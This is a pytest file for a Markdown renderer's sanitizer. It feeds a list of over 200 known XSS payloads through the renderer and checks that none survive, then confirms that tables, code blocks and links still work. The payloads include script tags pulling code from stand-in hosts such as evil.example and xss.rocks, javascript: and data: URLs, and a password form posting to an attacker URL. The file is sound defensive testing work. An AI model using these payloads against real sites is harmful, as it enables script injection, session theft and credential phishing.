"""Markdown rendering: known XSS payloads never survive, and the useful markup does.

Every payload is rendered with connect.markup.render, on its own and inside other
Markdown constructs, and the output is parsed with the standard library's HTML
parser: only allowlisted elements and attributes, no event handlers, no link
whose scheme is not http, https or mailto (relative links are fine), no style
except text-align on table cells.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from connect import markup

# Known XSS payloads: the OWASP filter evasion cheat sheet, HTML5 Security Cheatsheet
# items, Markdown-specific link tricks, and broken or half-closed markup. Each one is
# an attack on its own; several are the same idea in another spelling on purpose.
PAYLOADS = [
    # Script tags in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<script>alert(1)",
    "<script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">alert(1)</script>',
    "<script type=module>import('//evil.example')</script>",
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scrİpt>alert(1)</scrİpt>",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # Event handlers on many tags
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror='alert(1)'>",
    "<img src=x onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert&#40;1&#41;>",
    "<div onmouseover=alert(1)>hover</div>",
    '<div onclick="alert(1)">click</div>',
    "<p onclick=alert(1)>para</p>",
    "<a onmouseover=alert(1)>x</a>",
    '<a href="http://example.com" onclick="alert(1)">x</a>',
    "<a href=# onfocus=alert(1) autofocus>x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<button onclick=alert(1)>b</button>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<video src=x onerror=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<table onmouseover=alert(1)><tr><td>t</td></tr></table>",
    "<td onclick=alert(1)>cell</td>",
    "<th onclick=alert(1)>head</th>",
    "<tr onclick=alert(1)><td>r</td></tr>",
    "<h1 onclick=alert(1)>head</h1>",
    "<blockquote onclick=alert(1)>q</blockquote>",
    "<code onclick=alert(1)>c</code>",
    "<pre onclick=alert(1)>p</pre>",
    "<li onclick=alert(1)>l</li>",
    "<ol onclick=alert(1) start=3><li>l</li></ol>",
    "<strong onmouseover=alert(1)>s</strong>",
    "<em onmouseover=alert(1)>e</em>",
    "<br onclick=alert(1)>",
    "<hr onclick=alert(1)>",
    "<span onpointerover=alert(1)>s</span>",
    "<x onclick=alert(1)>custom</x>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<a href="x" onauxclick=alert(1)>x</a>',
    "<a href=x on\x00click=alert(1)>x</a>",
    "<a href=x o&#110;click=alert(1)>x</a>",
    '<div style="x" onanimationstart=alert(1)>d</div>',
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    # javascript:, vbscript:, data: URLs in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\tjavascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000049&#0000041">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65'
    '&#x72&#x74&#x28&#x31&#x29">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBSCRIPT:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="jar:http://evil.example/x.jar!/">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="ms-its:mhtml:file://C:/x.mht!http://evil.example/x.chm::/x.htm">x</a>',
    '<a href="javascript://%0Aalert(1)">x</a>',
    '<a href="javascript:/*--></title></style></textarea></script></xmp>'
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>\">x</a>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="http://example.com" target="_blank">x</a>',
    '<a href="http://example.com" style="position:fixed;top:0;left:0">x</a>',
    '<a href="http://example.com" class="mention" id="x">x</a>',
    '<a href="http://example.com" rel="opener">x</a>',
    '<a href="http://example.com" ping="http://evil.example">x</a>',
    # Markdown links, autolinks and reference links
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#0;javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](`javascript:alert(1)`)",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](livescript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](mocha:alert(1))",
    "[<img src=x onerror=alert(1)>](http://example.com)",
    "[<script>alert(1)</script>](http://example.com)",
    '[x](http://example.com "t" onmouseover="alert(1)")',
    '[x](http://example.com "" onmouseover=alert(1) x="")',
    '[x](http://example.com "title\\" onmouseover=\\"alert(1)")',
    "[x](http://example.com 'title\\' onmouseover=alert(1) ')",
    '[x](http://example.com/"onmouseover="alert(1))',
    "[x](http://example.com/'onmouseover='alert(1))",
    "[x](http://example.com/><script>alert(1)</script>)",
    "[x](https://example.com/ onclick=alert(1))",
    '[x]("javascript:alert(1)")',
    '[x](#" onmouseover="alert(1))',
    '[x](/relative" onclick="alert(1))',
    "[x](//evil.example/%22onclick=%22alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<javascript:alert(document.cookie)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<file:///etc/passwd>",
    '<http://example.com/"onmouseover="alert(1)>',
    "<http://example.com/'><script>alert(1)</script>>",
    '<mailto:x@example.com?subject="onclick=alert(1)>',
    "javascript:alert(1)",
    'http://example.com/"onmouseover="alert(1)',
    "http://example.com/<script>alert(1)</script>",
    'www.example.com/"><img src=x onerror=alert(1)>',
    'x@example.com"onclick=alert(1)',
    "[x][a]\n\n[a]: javascript:alert(1)",
    "[x][a]\n\n[a]: <javascript:alert(1)>",
    '[x][a]\n\n[a]: JavaScript:alert(1) "title"',
    "[x][a]\n\n[a]: vbscript:msgbox(1)",
    "[x][a]\n\n[a]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[a]\n\n[a]: javascript&#58;alert(1)",
    '[x][a]\n\n[a]: http://example.com "t\\" onclick=\\"alert(1)"',
    "[x][a]\n\n[a]: &#106;avascript:alert(1)",
    # Image syntax (images are off; the syntax must not open a hole)
    "![x](javascript:alert(1))",
    "![x](http://example.com/x.png)",
    '![x](x "a" onerror=alert(1))',
    '![x" onerror="alert(1)](http://example.com/x.png)',
    '![x](http://example.com/x.png"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][a]\n\n[a]: javascript:alert(1)",
    "[![x](http://example.com/x.png)](javascript:alert(1))",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<svg><style>@import 'http://evil.example/x.css';</style></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<SVG ONLOAD=alert(1)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline#http://example.com" '
    'xlink:href="javascript:alert(1)">CLICKME</maction></math>',
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea>"
    "<a title=\"</textarea><img src='#' onerror='alert(1)'>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Frames, objects, embeds, forms, meta, base, style, link
    '<iframe src="javascript:alert(1)"></iframe>',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<iframe src=http://evil.example/ <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<object data="javascript:alert(1)"></object>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    "c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9y"
    "Zy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0"
    'ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg=="'
    ' type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<applet code="x" codebase="javascript:alert(1)"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form action="http://evil.example/steal"><input name=password type=password></form>',
    "<form id=test></form><button form=test formaction=javascript:alert(1)>X</button>",
    '<input type="text" value="" autofocus onfocus=alert(1)>',
    "<isindex action=javascript:alert(1) type=image>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AGk'
    "&AGE&AG0&AGE&AGc&AGU&AG8&AGY&AGY&AGw&AGk&AG4&AGU&AD4",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="http://evil.example/">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    '<link rel=import href="http://evil.example/x.html">',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.rocks/xss.htc">'
    "<xss:xss>XSS</xss:xss></HTML>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
    # CSS expressions and style attributes
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
    '<td style="text-align:left;background:url(javascript:alert(1))">x</td>',
    '<table><tr><td style="text-align:expression(alert(1))">x</td></tr></table>',
    '<table><tr><th style="width:expression(alert(1));text-align:left">x</th></tr></table>',
    '<p style="color:red">x</p>',
    '<a href="http://example.com" style="behavior:url(x.htc)">x</a>',
    '<span style="position:fixed;inset:0;background:white">fake login</span>',
    '| a | b |\n|---|---|\n| <td style="x:expression(alert(1))">c</td> | d |',
    # Malformed and unclosed tags, parser confusion
    '<a href="javascript:alert(1)"',
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    '<a href="http://example.com">unclosed',
    "<<img src=x onerror=alert(1)>>",
    "< img src=x onerror=alert(1)>",
    "</img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) /",
    '<a "" href=javascript:alert(1)>x</a>',
    "<a/href=javascript:alert(1)>x</a>",
    "<a href\n=\njavascript:alert(1)>x</a>",
    '<div><a href="x"></div><img src=x onerror=alert(1)></a>',
    "<table><a href=javascript:alert(1)>x</a></table>",
    "<ul><li><a href=javascript:alert(1)>x</li></ul></a>",
    "<p><svg><style>*{}</p><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<%<!--'%><script>alert(1);</script -->",
    '<a href="http://example.com" title=""><img src=x onerror=alert(1)>">x</a>',
    '<a title="a"onclick="alert(1)">x</a>',
    "<div/onmouseover='alert(1)'> style=\"x:\">",
    "<IMG SRC=\"jav ascript:alert('XSS');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
    "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027"
    "\\0029'\\0029\">",
    '<A HREF="http://66.102.7.147/">XSS</A>',
    '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
    '<A HREF="//www.google.com/">XSS</A>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<img src='x' onerror='alert(1)'",
    "'\"><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "--></script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '";alert(1);//',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    # Markdown constructs wrapping payloads
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\n<b>x</b>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "* <a href=javascript:alert(1)>x</a>",
    "1. <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "~~<iframe src=javascript:alert(1)>~~",
    "| <script>alert(1)</script> | x |\n|---|---|\n| [y](javascript:alert(1)) | z |",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "@<script>alert(1)</script>",
    "@alice<img src=x onerror=alert(1)>",
    "[@alice](javascript:alert(1))",
    "Setext\n<script>alert(1)</script>\n===",
    "<details><summary>x</summary><script>alert(1)</script></details>",
    "<b>bold</b> <i>it</i> <u>u</u> <font color=red>f</font>",
    '<a href="mailto:x@example.com" onclick="alert(1)">mail</a>',
    '[mail](mailto:x@example.com"onclick="alert(1))',
    "[mail](mailto:javascript:alert(1))",
    "[x](http://example.com)<script>alert(1)</script>[y](https://example.com)",
    '[x](http://example.com#"><svg/onload=alert(1)>)',
    "[x](http://example.com?a=<script>alert(1)</script>)",
    "[x](http://exa\u202emple.com)",
    '[x](http://example.com "<script>alert(1)</script>")',
    "[x](javascript:alert(1)#http://example.com)",
    "[x](http:javascript:alert(1))",
    "[x](https://javascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#x26;#106;avascript:alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "<<http://example.com/onclick=alert(1)>>",
    'http://example.com/?q="onmouseover=alert(1)//',
    "https://example.com/'onmouseover='alert(1)",
    'www.example.com"onmouseover="alert(1)',
    'mailto:x@example.com"onmouseover="alert(1)',
]

# Each payload is also tried inside these Markdown contexts.
CONTEXTS = [
    "{}",
    "Before {} after",
    "> {}",
    "- {}",
    "# {}",
    "**{}**",
    "[{}](http://example.com)",
    "| h |\n|---|\n| {} |",
    "text\n\n{}\n\nmore text",
]

FORBIDDEN_ELEMENTS = {"script", "iframe", "svg", "math", "img", "style", "object", "embed"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME_RE = re.compile(r"^([a-z][a-z0-9+.\-]*):")
STYLE_RE = re.compile(r"^\s*text-align\s*:\s*(left|right|center)\s*;?\s*$")
CONTROL_OR_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f\u00a0\u1680\u2000-\u200f\u2028-\u202f\ufeff]")


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see, after removing whitespace and control characters."""
    cleaned = CONTROL_OR_SPACE.sub("", url).lower()
    match = SCHEME_RE.match(cleaned)
    return match.group(1) if match else None


class Audit(HTMLParser):
    """Collects every way the HTML breaks the rendering policy."""

    def __init__(self, *, strict_classes: bool = True) -> None:
        super().__init__(convert_charrefs=True)
        self.strict_classes = strict_classes
        self.problems: list[str] = []
        self.links: list[dict] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_endtag(self, tag):
        if tag not in markup.ALLOWED_TAGS:
            self.problems.append(f"closing tag </{tag}>")

    def handle_comment(self, data):
        self.problems.append(f"comment <!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"declaration <!{decl}>")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction <?{data}>")

    def unknown_decl(self, data):
        self.problems.append(f"unknown declaration {data}")

    def _check(self, tag, attrs):
        if tag in FORBIDDEN_ELEMENTS or tag not in markup.ALLOWED_TAGS:
            self.problems.append(f"element <{tag}>")
        allowed = set(markup.ALLOWED_ATTRIBUTES.get(tag, ())) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name not in allowed:
                self.problems.append(f"attribute {name}= on <{tag}>")
            if name == "style" and (tag not in ("th", "td") or not STYLE_RE.match(value)):
                self.problems.append(f"style={value!r} on <{tag}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "srcset"):
                scheme = scheme_of(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            # Markdown only ever sets two classes: mention links and code languages.
            odd_class = (tag == "a" and value != "mention") or (
                tag == "code" and not value.startswith("language-")
            )
            if self.strict_classes and name == "class" and odd_class:
                self.problems.append(f"class={value!r} on <{tag}>")
            if tag == "ol" and name == "start" and not value.isdigit():
                self.problems.append(f"start={value!r} on <ol>")
        if tag == "a":
            attributes = dict(attrs)
            self.links.append(attributes)
            if attributes.get("rel") != markup.LINK_REL:
                self.problems.append(f"link without rel={markup.LINK_REL!r}: {attributes}")


def audit(html: str, *, strict_classes: bool = True) -> Audit:
    parser = Audit(strict_classes=strict_classes)
    parser.feed(html)
    parser.close()
    return parser


def test_the_payload_list_is_long_and_distinct():
    assert len(PAYLOADS) >= 200
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_the_auditor_catches_what_it_looks_for():
    """The checks below would fail on dangerous HTML (so passing them means something)."""
    bad = [
        "<script>alert(1)</script>",
        "<img src=x>",
        "<svg></svg>",
        "<math></math>",
        "<iframe></iframe>",
        "<p onclick=x>p</p>",
        '<a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href=" JaVa\tScRiPt:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href="&#106;avascript:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href="data:text/html,x" rel="nofollow ugc noopener">x</a>',
        '<a href="http://example.com">no rel</a>',
        '<p style="color:red">x</p>',
        '<td style="text-align:left;background:red">x</td>',
        "<!-- comment -->",
        "<div>x</div>",
    ]
    for html in bad:
        assert audit(html).problems, html
    good = (
        '<p><a href="https://example.com/x?y=1" rel="nofollow ugc noopener">x</a> '
        '<a href="/members/alice" class="mention" rel="nofollow ugc noopener">@alice</a> '
        '<a href="mailto:x@example.com" rel="nofollow ugc noopener">m</a></p>'
        '<table><tr><td style="text-align:center">c</td></tr></table>'
    )
    assert audit(good).problems == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{i:03d}" for i in range(len(PAYLOADS))])
def test_payload_renders_harmless(payload):
    for context in CONTEXTS:
        source = context.replace("{}", payload)
        html = markup.render(source)
        problems = audit(html).problems
        assert problems == [], f"{source!r} rendered as {html!r}: {problems}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{i:03d}" for i in range(len(PAYLOADS))])
def test_sanitizer_alone_cleans_raw_html(payload):
    """Defence in depth: even if Markdown let raw HTML through, the sanitizer holds.

    (Class names are allowed on links by the sanitizer; only Markdown limits them.)
    """
    html = markup.sanitize(payload)
    problems = audit(html, strict_classes=False).problems
    assert problems == [], f"{payload!r} sanitized to {html!r}: {problems}"


def test_excerpts_and_mentions_of_payloads_are_plain_text():
    for payload in PAYLOADS:
        text = markup.excerpt(payload, 10_000)
        assert "\n" not in text
        for name in markup.mentions(payload):
            assert re.fullmatch(r"[a-z0-9_-]{2,40}", name), (payload, name)


# What must keep working ------------------------------------------------------------


def elements(html: str) -> list[tuple[str, dict]]:
    found: list[tuple[str, dict]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Collect().feed(html)
    return found


def test_tables_render_with_alignment():
    html = markup.render(
        "| Format | Records | Notes |\n"
        "|:-------|-------:|:-----:|\n"
        "| MARC | 1,200 | *legacy* |\n"
        "| BIBFRAME | 300 | new |\n"
    )
    tags = [t for t, _ in elements(html)]
    for tag in ("table", "thead", "tbody", "tr", "th", "td", "em"):
        assert tag in tags, (tag, html)
    assert tags.count("tr") == 3 and tags.count("td") == 6
    styles = [a.get("style") for t, a in elements(html) if t in ("th", "td")]
    assert styles[:3] == ["text-align:left", "text-align:right", "text-align:center"]
    assert '<td style="text-align:right">1,200</td>' in html
    assert audit(html).problems == []


def test_fenced_code_keeps_language_and_escapes_content():
    html = markup.render("```python\nif a < b and c > d:\n    print('<b>@alice</b>')\n```")
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b and c &gt; d:" in html
    assert "&lt;b&gt;@alice&lt;/b&gt;" in html
    assert "/members/alice" not in html
    assert audit(html).problems == []


def test_bare_urls_become_safe_links():
    html = markup.render("See https://example.org/catalog?q=rda&page=2 for more.")
    (link,) = [a for t, a in elements(html) if t == "a"]
    assert link["href"] == "https://example.org/catalog?q=rda&page=2"
